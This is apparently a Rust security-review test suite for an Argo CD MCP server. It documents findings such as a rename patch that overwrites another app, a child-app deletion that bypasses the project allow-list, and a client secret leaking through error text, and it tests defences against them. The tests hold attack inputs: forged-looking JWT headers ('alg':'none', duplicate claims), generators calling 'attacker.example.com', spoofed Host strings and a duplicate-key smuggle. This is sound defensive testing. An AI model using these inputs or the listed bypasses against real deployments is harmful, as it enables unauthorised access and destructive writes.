//! Eighteenth hostile review (issue 19): user mode with tokens the provider really signed
//! (arbitrary JOSE headers and payloads, signed with its published key: `Idp::sign_raw`), the
//! allow-list against an app of apps, approvals against Argo CD's own Patch semantics, a
//! provider that quotes the request in its errors, read-only against revision spellings and
//! nested generators, the shared bearer and the Host list — through the built components.
//!
//! Findings (each `review18_finding_*` asserts the secure behaviour, fails today and is ignored
//! with issue 19):
//!
//! - A2 (medium, approvals: "what the person reads is what runs") a merge patch of app A that
//!   sets `metadata.name` (or `metadata.namespace`) is put to the person as a change of A (A's
//!   project, source, destination, uid) with one line `metadata.name: "A" → "B"`; Argo CD's
//!   Patch then writes the app the patched object names (`validateAndUpdateApp(newApp)` →
//!   `updateApp` replaces B's spec, labels, annotations and finalizers with A's merged ones).
//!   Without approvals it is sent as is. Root: `src/tools/lifecycle.rs` `PatchApp::run` and the
//!   approval statement accept a patch of `metadata.name` / `metadata.namespace`.
//! - P1 (medium, ARGOCD_ALLOWED_PROJECTS) `delete_argocd_resource` on an allowed parent app with
//!   `kind: Application, group: argoproj.io` deletes a child Application of a project outside
//!   the list (app of apps; the child's finalizer then deletes all it deployed; the same for an
//!   ApplicationSet the parent manages). The guard judges the parent's project only. Server and
//!   plugin. Root: `src/tools/lifecycle.rs` `DeleteResource::run` (`ensure_project_allowed` of
//!   `args.app_name` alone).
//! - S1 (low, secrets in answers) the OIDC client secret reaches callers when the provider's
//!   exchange refusal quotes it (`client argocd-mcp:<secret> …`, `(secret <secret>)`): the
//!   refusal's `error_description` is quoted into the tool error; the scrubber masks by shape and
//!   name and never takes out the values of the secrets this server holds. Root:
//!   `src/identity/delegation.rs` `exchange` (the `said` text).
//! - U1 (low, user mode scopes) a token whose scopes are an empty `scp` list (and no `scope`) is
//!   let in as if it listed no scopes; `scope: ""` is refused with 403. Root:
//!   `src/identity/jwt.rs` `Claims::scopes` (`scp.is_empty()` taken for "no scope claim").
//!
//! Shapes that held (the other tests): signed tokens with duplicate `sub`/`aud`/`iss`/`exp`
//! (also an escaped name) or a duplicate header `alg`, issuer or audience spelled otherwise,
//! `exp` as a string, null, missing, past or `-1e300`, a float `nbf` ahead, empty, missing or
//! numeric `sub`, an object `aud`, a `kid` of no key, `crit`; `typ` `at+jwt` or absent and
//! audience lists act as their subject; `scope: ""` is 403. Read-only: every other spelling of
//! the app's `HEAD` (case, `~1`, `^`, `@{1}`, ref paths, fullwidth, zero-width, BOM, short or
//! long hex) for manifests, revision metadata and per-source revisions; call-out generators
//! nested in merge/matrix, in another case, with a long s, beside a list generator, or hidden by
//! a duplicate `spec` member. The bearer: prefix, extension, inner space, other schemes, URL,
//! other header, case; hosts that only look local. A JSON-RPC batch runs nothing. The caller's
//! token reaches only the token endpoint (never Argo CD, discovery, keys, a URL or a header).
//! A published key marked `use: enc`, `alg: RS384`/`PS256` or `kty: oct` verifies no RS256
//! token (`key_ops` is not read: a key published with `key_ops: ["encrypt"]` would still verify;
//! the README promises nothing of it).

use serde_json::{Value, json};

use crate::World;
use crate::harness;
use crate::identity::{RESOURCE, call_as, user_mode};
use crate::planting::plugin_env;

const SCOPES: &str = "openid profile email groups";

// ---------------------------------------------------------------------------------------------
// Helpers
// ---------------------------------------------------------------------------------------------

/// The claims the provider issues `user` for this server, as JSON text.
fn claims_text(world: &World, user: &str, change: impl FnOnce(&mut Value)) -> String {
    let mut claims = world
        .standin
        .state()
        .idp
        .claims_for(user, &[RESOURCE], 3600, SCOPES);
    change(&mut claims);
    claims.to_string()
}

/// A token the provider signs with its current key, header and payload exactly as written.
fn signed(world: &World, header: &str, claims: &str) -> String {
    world.standin.state().idp.sign_raw(header, claims)
}

const HEADER: &str = r#"{"alg":"RS256","kid":"{kid}","typ":"JWT"}"#;

/// Requests that reached Argo CD's API or the provider's token endpoint.
fn reached_argocd_or_exchange(world: &World) -> Vec<String> {
    world
        .standin
        .requests()
        .iter()
        .filter(|r| r.path.starts_with("/api/v1") || r.path.starts_with("/api/dex/token"))
        .map(|r| format!("{} {}", r.method, r.path))
        .collect()
}

fn message_of(body: &Value) -> String {
    body["error"]["message"]
        .as_str()
        .map(str::to_owned)
        .unwrap_or_else(|| body.to_string())
}

// ---------------------------------------------------------------------------------------------
// User mode: tokens the provider signed, with odd headers and claims
// ---------------------------------------------------------------------------------------------

/// Signed tokens whose claims are not what this server may accept: each is refused with 401
/// before Argo CD or the token endpoint hears of it. Duplicate members (which one would the
/// verifier read, which one the provider's exchange?) are refused outright.
#[tokio::test]
async fn review18_signed_tokens_with_bad_claims_are_refused_before_anything_is_sent() {
    let world = user_mode(&[]).await;
    let issuer = world.standin.issuer();
    let now = host_test::standin::auth::unix_now() as i64;
    let base = claims_text(&world, "alice", |_| {});
    // `{"iss":…` → `{"sub":"bob","iss":…`: a second `sub` before alice's.
    let dup = |member: &str| format!("{{{member},{}", &base[1..]);
    let cases: Vec<(&str, String, String)> = vec![
        ("duplicate sub", HEADER.into(), dup(r#""sub":"bob""#)),
        (
            "duplicate sub, escaped name",
            HEADER.into(),
            dup(r#""s\u0075b":"bob""#),
        ),
        ("duplicate aud", HEADER.into(), dup(r#""aud":"argo-cd""#)),
        (
            "duplicate iss",
            HEADER.into(),
            dup(r#""iss":"https://evil""#),
        ),
        ("duplicate exp", HEADER.into(), dup(r#""exp":1"#)),
        (
            "duplicate alg in the header",
            r#"{"alg":"none","alg":"RS256","kid":"{kid}"}"#.into(),
            base.clone(),
        ),
        (
            "issuer with a trailing slash",
            HEADER.into(),
            claims_text(&world, "alice", |c| c["iss"] = json!(format!("{issuer}/"))),
        ),
        (
            "issuer in another case",
            HEADER.into(),
            claims_text(&world, "alice", |c| c["iss"] = json!(issuer.to_uppercase())),
        ),
        (
            "audience with a trailing slash",
            HEADER.into(),
            claims_text(&world, "alice", |c| {
                c["aud"] = json!([format!("{RESOURCE}/")])
            }),
        ),
        (
            "exp as a string",
            HEADER.into(),
            claims_text(&world, "alice", |c| {
                c["exp"] = json!((now + 3600).to_string())
            }),
        ),
        (
            "no exp",
            HEADER.into(),
            claims_text(&world, "alice", |c| {
                c.as_object_mut().unwrap().remove("exp");
            }),
        ),
        (
            "exp null",
            HEADER.into(),
            claims_text(&world, "alice", |c| c["exp"] = Value::Null),
        ),
        (
            "exp 61 s ago",
            HEADER.into(),
            claims_text(&world, "alice", |c| c["exp"] = json!(now - 61)),
        ),
        (
            "exp far in the past, negative",
            HEADER.into(),
            claims_text(&world, "alice", |c| c["exp"] = json!(-1e300)),
        ),
        (
            "nbf an hour ahead (float)",
            HEADER.into(),
            claims_text(&world, "alice", |c| c["nbf"] = json!(now as f64 + 3600.5)),
        ),
        (
            "empty sub",
            HEADER.into(),
            claims_text(&world, "alice", |c| c["sub"] = json!("")),
        ),
        (
            "no sub",
            HEADER.into(),
            claims_text(&world, "alice", |c| {
                c.as_object_mut().unwrap().remove("sub");
            }),
        ),
        (
            "sub as a number",
            HEADER.into(),
            claims_text(&world, "alice", |c| c["sub"] = json!(7)),
        ),
        (
            "aud as an object",
            HEADER.into(),
            claims_text(&world, "alice", |c| c["aud"] = json!({"0": RESOURCE})),
        ),
        (
            "kid of no published key",
            r#"{"alg":"RS256","kid":"../{kid}"}"#.into(),
            base.clone(),
        ),
        (
            "payload not an object",
            HEADER.into(),
            json!([base]).to_string(),
        ),
        (
            "header with crit",
            r#"{"alg":"RS256","kid":"{kid}","crit":["exp"],"exp":1}"#.into(),
            base.clone(),
        ),
    ];
    let mut accepted = Vec::new();
    for (case, header, claims) in &cases {
        let token = signed(&world, header, claims);
        let (status, body) = call_as(&world, &token, "get_argocd_server_info", json!({})).await;
        println!("review18 {case}: {status} {}", message_of(&body));
        if status != 401 {
            accepted.push(format!("{case}: {status} {body}"));
        }
    }
    assert!(accepted.is_empty(), "{accepted:#?}");
    assert_eq!(reached_argocd_or_exchange(&world), Vec::<String>::new());
}

/// Header and audience shapes a real provider issues are accepted: `typ` `at+jwt` (RFC 9068)
/// or none, an audience list naming this server among others. Each caller acts as themself.
#[tokio::test]
async fn review18_signed_tokens_of_ordinary_shapes_are_accepted_as_their_subject() {
    let world = user_mode(&[]).await;
    let cases: Vec<(&str, String, String)> = vec![
        (
            "typ at+jwt",
            r#"{"alg":"RS256","kid":"{kid}","typ":"at+jwt"}"#.into(),
            claims_text(&world, "alice", |_| {}),
        ),
        (
            "no typ",
            r#"{"alg":"RS256","kid":"{kid}"}"#.into(),
            claims_text(&world, "bob", |_| {}),
        ),
        (
            "aud list with others",
            HEADER.into(),
            claims_text(&world, "alice", |c| {
                c["aud"] = json!(["some-other-api", RESOURCE, "argo-cd"])
            }),
        ),
        (
            "aud a single string",
            HEADER.into(),
            claims_text(&world, "bob", |c| c["aud"] = json!(RESOURCE)),
        ),
    ];
    for (case, header, claims) in &cases {
        let token = signed(&world, header, claims);
        let (status, body) = call_as(&world, &token, "get_argocd_server_info", json!({})).await;
        assert_eq!(status, 200, "{case}: {body}");
        let sub: Value = serde_json::from_str(claims).unwrap();
        assert_eq!(
            body["result"]["structuredContent"]["username"], sub["sub"],
            "{case}: {body}"
        );
    }
}

/// A token that lists scopes as an empty string lacks the configured ones: 403.
#[tokio::test]
async fn review18_an_empty_scope_string_is_insufficient() {
    let world = user_mode(&[]).await;
    let claims = claims_text(&world, "alice", |c| c["scope"] = json!(""));
    let token = signed(&world, HEADER, &claims);
    let (status, body) = call_as(&world, &token, "get_argocd_server_info", json!({})).await;
    assert_eq!(status, 403, "{body}");
    assert_eq!(reached_argocd_or_exchange(&world), Vec::<String>::new());
}

/// U1: a token that lists its scopes as an empty `scp` list (Entra's and Okta's claim) holds none
/// of the configured scopes, yet it is let in as if it listed no scopes at all: "tokens that list
/// scopes must hold" them (OIDC_SCOPES), and `scope: ""` is refused with 403.
#[tokio::test]
async fn review18_finding_u1_an_empty_scp_list_skips_the_scope_check() {
    let world = user_mode(&[]).await;
    let claims = claims_text(&world, "alice", |c| {
        c.as_object_mut().unwrap().remove("scope");
        c["scp"] = json!([]);
    });
    let token = signed(&world, HEADER, &claims);
    let (status, body) = call_as(&world, &token, "get_argocd_server_info", json!({})).await;
    println!("review18 scp []: {status} {body}");
    assert_eq!(status, 403, "{body}");
    assert_eq!(reached_argocd_or_exchange(&world), Vec::<String>::new());
}

// ---------------------------------------------------------------------------------------------
// ARGOCD_ALLOWED_PROJECTS and an app of apps
// ---------------------------------------------------------------------------------------------

fn child_deletes(world: &World) -> Vec<String> {
    world
        .standin
        .requests()
        .iter()
        .filter(|r| r.method == "DELETE" && r.path.contains("kind=Application"))
        .map(|r| r.path.clone())
        .collect()
}

/// P1: with ARGOCD_ALLOWED_PROJECTS=payments, `delete_argocd_resource` on the allowed app
/// `payments` deletes the Application `guestbook` of project `default` (the parent manages
/// its Application object): Argo CD deletes it through the parent's resource API, judged by the
/// parent's project alone, and the child's finalizer deletes everything it deployed. A write to
/// an app outside the listed projects, through both components.
#[tokio::test]
async fn review18_finding_p1_a_child_application_of_another_project_is_deleted_through_its_parent()
{
    let mut world = World::new().await;
    world.set("allowed_projects", "payments");
    crate::planting::manages(&world.standin, "payments", "guestbook");
    let result = world
        .call(
            "delete_argocd_resource",
            json!({"app_name": "payments", "kind": "Application", "group": "argoproj.io",
                   "version": "v1alpha1", "resource_name": "guestbook", "namespace": "argocd",
                   "confirm": true}),
        )
        .await;
    println!("review18 P1 server: {result}");
    let server_sent = child_deletes(&world);

    let mut env = plugin_env(&world.standin);
    env.env
        .push(("ARGOCD_ALLOWED_PROJECTS".into(), "payments".into()));
    crate::planting::manages(&world.standin, "payments", "guestbook");
    let before = child_deletes(&world).len();
    let (p, mut s) = harness().plugin(&env).await.unwrap();
    let plugin = p
        .call_delete_argocd_resource(
            &mut s,
            "payments",
            "Application",
            "guestbook",
            Some("argocd"),
            Some("argoproj.io"),
            Some("v1alpha1"),
            None,
            None,
            None,
            true,
            None,
        )
        .await
        .expect("plugin answers");
    println!("review18 P1 plugin: {plugin:?}");
    let plugin_sent = child_deletes(&world).len() - before;
    assert!(
        server_sent.is_empty() && plugin_sent == 0,
        "the Application guestbook (project default) was deleted through payments: server {server_sent:?} ({result}), plugin {plugin_sent} ({plugin:?})"
    );
}

// ---------------------------------------------------------------------------------------------
// A provider that quotes the request in its errors
// ---------------------------------------------------------------------------------------------

/// What every answer of a call as `token` and the health check say, headers included.
async fn everything_answered(world: &World, token: &str) -> String {
    let (status, body) = call_as(world, token, "get_argocd_server_info", json!({})).await;
    let bearer = format!("Bearer {token}");
    let call = world
        .mcp_with(
            &json!({"jsonrpc": "2.0", "id": 2, "method": "tools/call",
                    "params": {"name": "list_argocd_apps", "arguments": {}}}),
            &[("authorization", &bearer)],
        )
        .await;
    let health = world
        .http("GET", "/health/argocd", &[("authorization", &bearer)], "")
        .await;
    format!(
        "{status} {body}\n{} {:?} {}\n{} {}",
        call.status,
        call.header("www-authenticate"),
        String::from_utf8_lossy(&call.body),
        health.status,
        String::from_utf8_lossy(&health.body)
    )
}

/// S1: a provider whose exchange refusal quotes the client's credentials (`id:secret`, as some
/// providers and proxies log and answer them) has this server's OIDC client secret shown to
/// every caller: in every tool call's error (`isError` answers) and in the signed-in caller's
/// `/health/argocd` report. "Secrets (… the OIDC client secret) never appear in answers, logs or
/// errors": the scrubber masks credentials by their shape and name, and this server never
/// takes out the values of its own secrets, which it knows.
#[tokio::test]
async fn review18_finding_s1_the_client_secret_quoted_by_the_provider_reaches_callers() {
    use crate::identity::CLIENT_SECRET;
    use base64::Engine;
    let world = user_mode(&[]).await;
    let alice = crate::identity::token(&world, "alice");
    let mut leaks = Vec::new();
    for template in [
        "client {id}:{secret} may not exchange tokens",
        "rejected {authorization}",
        "client {id} (secret {secret}) may not exchange tokens",
    ] {
        world.standin.state().idp.exchange_error_echo = Some(template.into());
        let said = format!(
            "{}\nlogs: {}",
            everything_answered(&world, &alice).await,
            world.stderr()
        );
        println!("review18 S1 {template}: {said}");
        let basic =
            base64::engine::general_purpose::STANDARD.encode(format!("argocd-mcp:{CLIENT_SECRET}"));
        for secret in [CLIENT_SECRET, basic.as_str()] {
            if said.contains(secret) {
                leaks.push(format!("{template}: {secret}"));
            }
        }
    }
    assert!(leaks.is_empty(), "{leaks:#?}");
}

// ---------------------------------------------------------------------------------------------
// A merge patch that renames: Argo CD writes the app it names
// ---------------------------------------------------------------------------------------------

/// A2: Argo CD's Patch applies the merge to app A, then `validateAndUpdateApp` writes the
/// result to the app the *patched* object names (`newApp.Name`, `newApp.Namespace`): a patch
/// of `payments` with `{"metadata": {"name": "guestbook"}}` replaces guestbook's spec, labels,
/// annotations and finalizers with payments' (argo-cd server/application/application.go). The
/// approval question describes payments (its project, source and destination as Argo CD has
/// them) and is sealed to payments' uid and generation; the app written is guestbook, whose
/// source and destination the person is never shown. "What the person reads is what runs."
/// Secure: a patch that changes `metadata.name` or `metadata.namespace` is refused before a
/// person is asked and before anything is sent.
#[tokio::test]
async fn review18_finding_a2_a_patch_renaming_the_app_writes_another_app() {
    let world = crate::planting::approval_world().await;
    let mut refused = Vec::new();
    for patch in [
        json!({"metadata": {"name": "guestbook"}}),
        json!({"metadata": {"namespace": "team-b"}}),
        json!({"metadata": {"name": "guestbook"}, "spec": {"syncPolicy": {"automated": null}}}),
    ] {
        let call = json!({"name": "patch_argocd_app",
                          "arguments": {"app_name": "payments", "patch": patch, "confirm": true}});
        let answer = crate::planting::asked(&world, &call).await;
        let question = crate::planting::question_in(&answer);
        println!("review18 A2 {patch}:\n{question}");
        let asked = answer["result"]["inputRequests"]["approval"].is_object();
        if asked {
            refused.push(format!("{patch} was put to a person:\n{question}"));
        }
    }
    // Without approvals, the same patch goes to Argo CD as it is.
    let plain = World::new().await;
    let result = plain
        .call(
            "patch_argocd_app",
            json!({"app_name": "payments", "patch": {"metadata": {"name": "guestbook"}}, "confirm": true}),
        )
        .await;
    let sent: Vec<String> = plain
        .standin
        .requests()
        .into_iter()
        .filter(|r| r.method == "PATCH")
        .map(|r| r.body)
        .collect();
    println!("review18 A2 plain: {result}\nsent {sent:?}");
    if sent.iter().any(|b| b.contains("guestbook")) {
        refused.push(format!("sent to Argo CD: {sent:?}"));
    }
    assert!(refused.is_empty(), "{refused:#?}");
}

// ---------------------------------------------------------------------------------------------
// Read-only: revision spellings, nested generators, duplicate members
// ---------------------------------------------------------------------------------------------

async fn read_only_world() -> World {
    World::with(
        host_test::standin::Config::default(),
        &[
            ("argocd_username", "admin"),
            ("argocd_password", crate::PASSWORD),
            ("read_only", "true"),
        ],
    )
    .await
}

/// Requests that would make the repo-server fetch or render, or a generator run.
fn fetched(world: &World) -> Vec<String> {
    world
        .standin
        .requests()
        .into_iter()
        .filter(|r| {
            r.path.contains("/manifests")
                || r.path.contains("/revisions/")
                || r.path.contains("/applicationsets/generate")
                || r.path.contains("refresh=hard")
        })
        .map(|r| format!("{} {} {}", r.method, r.path, r.body))
        .collect()
}

/// guestbook targets `HEAD`: every other spelling of it (case, git's revision syntax, a ref
/// path, fullwidth letters, a zero-width space), and a commit abbreviated below 7 digits, is
/// refused for manifests and revision metadata, and nothing is fetched; `HEAD` itself and its
/// synced commit abbreviated are read. Per-source revisions of the multi-source app likewise.
#[tokio::test]
async fn review18_read_only_reads_no_other_spelling_of_the_apps_revision() {
    let world = read_only_world().await;
    let synced = world.standin.app("guestbook").unwrap()["status"]["sync"]["revision"]
        .as_str()
        .unwrap()
        .to_owned();
    let spellings = [
        "head".to_owned(),
        "Head".into(),
        "HEAD~1".into(),
        "HEAD^".into(),
        "HEAD@{1}".into(),
        "refs/heads/HEAD".into(),
        "origin/HEAD".into(),
        "\u{ff28}\u{ff25}\u{ff21}\u{ff24}".into(),
        "HEAD\u{200b}".into(),
        "\u{feff}HEAD".into(),
        synced[..6].to_owned(),
        format!("{synced}0"),
        format!("{}~1", &synced[..7]),
    ];
    let mut accepted = Vec::new();
    for revision in &spellings {
        for tool in ["get_argocd_app_manifests", "get_argocd_revision_metadata"] {
            let result = world
                .call(tool, json!({"app_name": "guestbook", "revision": revision}))
                .await;
            if result["isError"] != true {
                accepted.push(format!("{tool} {revision:?}: {result}"));
            }
        }
    }
    for (revisions, positions) in [
        (json!(["head"]), json!([1])),
        (json!(["HEAD", "HEAD~1"]), json!([1, 2])),
        (json!(["HEAD"]), json!([3])),
    ] {
        let result = world
            .call(
                "get_argocd_app_manifests",
                json!({"app_name": "multi-source-app", "revisions": revisions, "source_positions": positions}),
            )
            .await;
        if result["isError"] != true {
            accepted.push(format!("multi {revisions} {positions}: {result}"));
        }
    }
    assert!(accepted.is_empty(), "{accepted:#?}");
    assert_eq!(fetched(&world), Vec::<String>::new());
    world
        .ok(
            "get_argocd_app_manifests",
            json!({"app_name": "guestbook", "revision": " HEAD "}),
        )
        .await;
    world
        .ok(
            "get_argocd_revision_metadata",
            json!({"app_name": "guestbook", "revision": synced[..7].to_uppercase()}),
        )
        .await;
    assert!(
        fetched(&world)
            .iter()
            .all(|r| r.contains("HEAD") || r.contains(&synced)),
        "{:?}",
        fetched(&world)
    );
}

/// Generators that call out, nested in merge and matrix, spelled in another case or with Go's
/// folding letters, or hidden by a duplicate member (serde keeps the last `spec`, Go's decoder
/// merges both into one struct): each preview is refused or sent without them.
#[tokio::test]
async fn review18_read_only_previews_run_no_generator_that_calls_out() {
    let world = read_only_world().await;
    let template = json!({"metadata": {"name": "x-{{env}}"}, "spec": {"project": "default",
        "source": {"repoURL": "https://git.example.com/x.git", "path": "."},
        "destination": {"server": "https://kubernetes.default.svc", "namespace": "x"}}});
    let list = json!({"list": {"elements": [{"env": "a"}]}});
    let pull = json!({"pullRequest": {"github": {"owner": "o", "repo": "r", "api": "https://attacker.example.com"}}});
    let specs = [
        json!({"generators": [{"merge": {"mergeKeys": ["env"], "generators": [list, {"matrix": {"generators": [list, pull]}}]}}]}),
        json!({"generators": [{"Merge": {"generators": [list, pull]}}]}),
        json!({"generators": [{"matrix": {"generators": [list, {"\u{17f}cmProvider": {"github": {"organization": "o", "api": "https://attacker.example.com"}}}]}}]}),
        json!({"generators": [{"list": {"elements": []}, "git": {"repoURL": "https://attacker.example.com/r.git", "revision": "HEAD"}}]}),
        json!({"generators": [{"matrix": {"generators": [list, {"plugin": {"configMapRef": {"name": "p"}}}]}}]}),
        json!({"generators": [{"clusterDecisionResource": {"configMapRef": "c"}}]}),
    ];
    let mut run = Vec::new();
    for spec in specs {
        let mut spec = spec;
        spec["template"] = template.clone();
        let appset = json!({"metadata": {"name": "p"}, "spec": spec});
        let result = world
            .call(
                "preview_argocd_applicationset",
                json!({"applicationset": appset}),
            )
            .await;
        if result["isError"] != true {
            run.push(format!("{appset}: {result}"));
        }
    }
    // The same member twice, as raw JSON text: the first `spec` carries the git generator.
    let raw = format!(
        r#"{{"jsonrpc":"2.0","id":3,"method":"tools/call","params":{{"name":"preview_argocd_applicationset","arguments":{{"applicationset":{{"metadata":{{"name":"p"}},"spec":{{"generators":[{{"git":{{"repoURL":"https://attacker.example.com/r.git","revision":"HEAD"}}}}]}},"spec":{{"template":{template}}}}}}}}}}}"#
    );
    let response = world
        .http(
            "POST",
            "/mcp",
            &[
                ("content-type", "application/json"),
                ("accept", "application/json, text/event-stream"),
                ("mcp-protocol-version", "2025-11-25"),
            ],
            &raw,
        )
        .await;
    println!(
        "review18 duplicate spec: {} {}",
        response.status,
        String::from_utf8_lossy(&response.body)
    );
    assert!(run.is_empty(), "{run:#?}");
    let out: Vec<String> = fetched(&world)
        .into_iter()
        .filter(|r| r.contains("attacker.example.com"))
        .collect();
    assert!(out.is_empty(), "{out:?}");
}

// ---------------------------------------------------------------------------------------------
// The shared bearer and the Host list
// ---------------------------------------------------------------------------------------------

/// `MCP_AUTH_TOKEN`: only the exact token, as `Bearer <token>` (scheme in any case), lets in;
/// a prefix, an extension, another scheme, the token in the URL or in another header do not.
/// Hosts that are not this machine's are refused, however they are spelled.
#[tokio::test]
async fn review18_bearer_and_host_spellings() {
    const TOKEN: &str = "R18-mcp-token-0123456789";
    let mut world = World::new().await;
    world.set("mcp_auth_token", TOKEN);
    let list = json!({"jsonrpc": "2.0", "id": 1, "method": "tools/list"}).to_string();
    let send = |path: String, extra: Vec<(&'static str, String)>| {
        let world = &world;
        let list = list.clone();
        async move {
            let mut headers: Vec<(&str, &str)> = vec![
                ("content-type", "application/json"),
                ("accept", "application/json, text/event-stream"),
                ("mcp-protocol-version", "2025-11-25"),
            ];
            headers.extend(extra.iter().map(|(k, v)| (*k, v.as_str())));
            world.http("POST", &path, &headers, &list).await.status
        }
    };
    let auth = |v: String| vec![("authorization", v)];
    let mut wrong = Vec::new();
    for (case, path, extra) in [
        (
            "prefix",
            "/mcp".to_owned(),
            auth(format!("Bearer {}", &TOKEN[..TOKEN.len() - 1])),
        ),
        ("extended", "/mcp".into(), auth(format!("Bearer {TOKEN}x"))),
        (
            "inner space",
            "/mcp".into(),
            auth(format!("Bearer {} {}", &TOKEN[..4], &TOKEN[4..])),
        ),
        ("basic", "/mcp".into(), auth(format!("Basic {TOKEN}"))),
        ("no scheme", "/mcp".into(), auth(TOKEN.into())),
        (
            "token scheme",
            "/mcp".into(),
            auth(format!("Token {TOKEN}")),
        ),
        ("in the URL", format!("/mcp?access_token={TOKEN}"), vec![]),
        ("in the URL as token", format!("/mcp?token={TOKEN}"), vec![]),
        (
            "another header",
            "/mcp".into(),
            vec![("x-mcp-auth-token", TOKEN.into())],
        ),
        (
            "upper case token",
            "/mcp".into(),
            auth(format!("Bearer {}", TOKEN.to_uppercase())),
        ),
    ] {
        let status = send(path, extra).await;
        if status != 401 {
            wrong.push(format!("{case}: {status}"));
        }
    }
    for spelling in [
        format!("Bearer {TOKEN}"),
        format!("bearer {TOKEN}"),
        format!("BEARER  {TOKEN} "),
    ] {
        let status = send("/mcp".into(), auth(spelling.clone())).await;
        if status != 200 {
            wrong.push(format!("{spelling:?} refused: {status}"));
        }
    }
    let bearer = format!("Bearer {TOKEN}");
    let mut judged = Vec::new();
    for host in [
        "localhost:8787",
        "evil.example",
        "localhost.evil.example",
        "localhost@evil.example",
        "evil.example#@localhost",
        "127.0.0.1.evil.example",
        "127.0.0.1:80@evil.example",
        "[::1].evil.example",
        "0x7f000001",
        "2130706433",
        "127.1",
        "localhost:8787/evil",
        "",
    ] {
        // The authority a browser (or a local process) addresses, in the URL and in Host.
        let Ok(request) = http::Request::post(format!("http://{host}/mcp"))
            .header("host", host)
            .header("content-type", "application/json")
            .header("accept", "application/json, text/event-stream")
            .header("authorization", &bearer)
            .body(bytes::Bytes::from(list.clone()))
        else {
            continue;
        };
        let Ok(response) = harness().request(&world.env, request).await else {
            continue;
        };
        judged.push(format!("{host:?} {}", response.status));
        if host == "localhost:8787" {
            assert_eq!(response.status, 200, "the control is answered");
            continue;
        }
        if response.status == 200 {
            wrong.push(format!("host {host:?} answered"));
        }
    }
    println!("review18 hosts judged: {judged:?}");
    assert!(judged.len() >= 8, "{judged:?}");
    assert!(wrong.is_empty(), "{wrong:#?}");
}

/// A JSON-RPC batch (an array, which MCP no longer has): refused as a whole, or answered
/// without running more calls than one request may.
#[tokio::test]
async fn review18_a_batch_runs_no_tool_calls() {
    let world = World::new().await;
    let call = |id: u64| {
        json!({"jsonrpc": "2.0", "id": id, "method": "tools/call",
               "params": {"name": "get_argocd_app_status", "arguments": {"app_name": "guestbook"}}})
    };
    let batch = Value::Array((1..=50).map(call).collect());
    let response = world
        .http(
            "POST",
            "/mcp",
            &[
                ("content-type", "application/json"),
                ("accept", "application/json, text/event-stream"),
                ("mcp-protocol-version", "2025-11-25"),
            ],
            &batch.to_string(),
        )
        .await;
    let body = String::from_utf8_lossy(&response.body);
    println!(
        "review18 batch: {} {}",
        response.status,
        &body[..body.len().min(400)]
    );
    let reads = world
        .standin
        .requests()
        .iter()
        .filter(|r| r.path.starts_with("/api/v1/applications/guestbook"))
        .count();
    assert_eq!(reads, 0, "{} {body}", response.status);
}

/// The caller's token goes only to the token endpoint (as `subject_token`): never to Argo CD,
/// never to discovery or the keys, never in a URL, never as a header, also when Argo CD refuses
/// the exchanged token once (the retry exchanges again) and on the signed-in health check.
#[tokio::test]
async fn review18_the_callers_token_goes_only_to_the_token_endpoint() {
    let world = user_mode(&[]).await;
    let alice = crate::identity::token(&world, "alice");
    let (status, body) = call_as(&world, &alice, "list_argocd_apps", json!({})).await;
    assert_eq!(status, 200, "{body}");
    world.standin.rotate_signing_key();
    let (status, body) = call_as(&world, &alice, "get_argocd_server_info", json!({})).await;
    assert_eq!(status, 200, "{body}");
    let bearer = format!("Bearer {alice}");
    world
        .http("GET", "/health/argocd", &[("authorization", &bearer)], "")
        .await;
    let signature = alice.rsplit('.').next().unwrap().to_owned();
    let mut carried = Vec::new();
    for r in world.standin.requests() {
        let headers: String = r
            .headers
            .iter()
            .map(|(k, v)| format!("{k}: {v}\n"))
            .collect();
        let everywhere = format!("{} {}\n{headers}{}", r.method, r.path, r.body);
        let to_token_endpoint = r.path.starts_with("/api/dex/token");
        // At the token endpoint only in the form body, never in a header.
        let allowed = to_token_endpoint && !headers.contains(&signature);
        if everywhere.contains(&signature) && !allowed {
            carried.push(format!("{} {}", r.method, r.path));
        }
    }
    assert!(carried.is_empty(), "{carried:?}");
}

/// A key the provider publishes for another use (`use: enc`) or another algorithm
/// (`alg: RS384`, `PS256`) verifies no RS256 token, though its `kid` matches and the signature
/// is the provider's; published as `sig`/`RS256` again, the same token is accepted.
#[tokio::test]
async fn review18_a_key_published_for_another_use_verifies_nothing() {
    let world = user_mode(&[]).await;
    let claims = claims_text(&world, "alice", |_| {});
    let mut accepted = Vec::new();
    for (member, value) in [
        ("use", json!("enc")),
        ("alg", json!("RS384")),
        ("alg", json!("PS256")),
        ("kty", json!("oct")),
    ] {
        // A fresh server (no keys or verdicts kept) for each shape.
        let world = user_mode(&[]).await;
        world
            .standin
            .state()
            .idp
            .rsa_key_members
            .insert(member.into(), value.clone());
        let token = signed(&world, HEADER, &claims_text(&world, "alice", |_| {}));
        let (status, body) = call_as(&world, &token, "get_argocd_server_info", json!({})).await;
        println!(
            "review18 key {member}={value}: {status} {}",
            message_of(&body)
        );
        if status != 401 {
            accepted.push(format!("{member}={value}: {status}"));
        }
        assert_eq!(reached_argocd_or_exchange(&world), Vec::<String>::new());
    }
    assert!(accepted.is_empty(), "{accepted:?}");
    let token = signed(&world, HEADER, &claims);
    let (status, body) = call_as(&world, &token, "get_argocd_server_info", json!({})).await;
    assert_eq!(status, 200, "{body}");
}
